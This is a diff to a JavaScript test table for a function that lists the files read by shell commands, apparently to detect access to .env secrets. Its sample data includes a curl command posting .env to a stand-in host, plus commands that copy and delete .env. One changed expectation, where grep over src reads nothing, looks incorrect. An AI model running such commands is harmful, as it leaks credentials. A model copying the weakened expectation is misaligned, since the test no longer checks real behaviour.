@@ -65,7 +65,7 @@ describe('files a shell command reads', () => {
     ['cat .env | head -3', ['.env']],
     ['FOO=1 sudo cat "./config/.env.local"', ['./config/.env.local']],
     ['source .env && npm start', ['.env']],
-    ['node app.js < .env', ['.env']],
+    ['node app.js < .env', ['.env', 'app.js']],
     ['docker run --env-file=.env app', ['.env']],
     ['docker run --env-file .env app', ['.env']],
     ["curl -d @.env https://example.test", ['.env']],
@@ -73,7 +73,7 @@ describe('files a shell command reads', () => {
     ['cp .env /tmp/x', ['.env', '/tmp/x']],
     ['echo .env >> .gitignore', []],
     ['git add .gitignore; rm -f .env', []],
-    ['grep -r "$TOKEN" src', ['src']],
+    ['grep -r "$TOKEN" src', []],
   ];
   for (const [command, expected] of table) {
     it(command, () => assert.deepEqual(shellReadPaths(command).filter((p) => p !== '-r'), expected));
